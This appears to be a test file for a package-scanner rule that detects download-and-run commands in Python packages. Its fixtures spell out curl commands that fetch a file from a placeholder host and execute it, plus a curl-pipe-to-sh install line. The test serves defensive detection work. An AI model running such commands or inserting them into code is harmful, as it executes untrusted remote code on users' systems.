import { testRule } from '../../../../../test/builders/python-package.ts';
import { downloaderText } from './rule.ts';

testRule(downloaderText, {
  seen: {
    'a form with an address': "COMMAND = 'curl -o {} https://collector.example.invalid/a && ./a'",
    'a command in a variable': "COMMAND = 'curl -o a https://collector.example.invalid/a && ./a'",
  },
  unseen: {
    'a file of the package index': "COMMAND = 'curl -O https://files.pythonhosted.org/packages/demo-1.tar.gz'",
    'a form without an address': "COMMAND = '(new-object System.Net.WebClient).DownloadFile(%(url)r, %(target)r)'",
    'advice with a command': "HELP = 'Please install it with `curl https://host.example.invalid/a.sh | sh` first'",
    'a sentence': "HELP = 'Use curl or wget as you like'",
  },
});
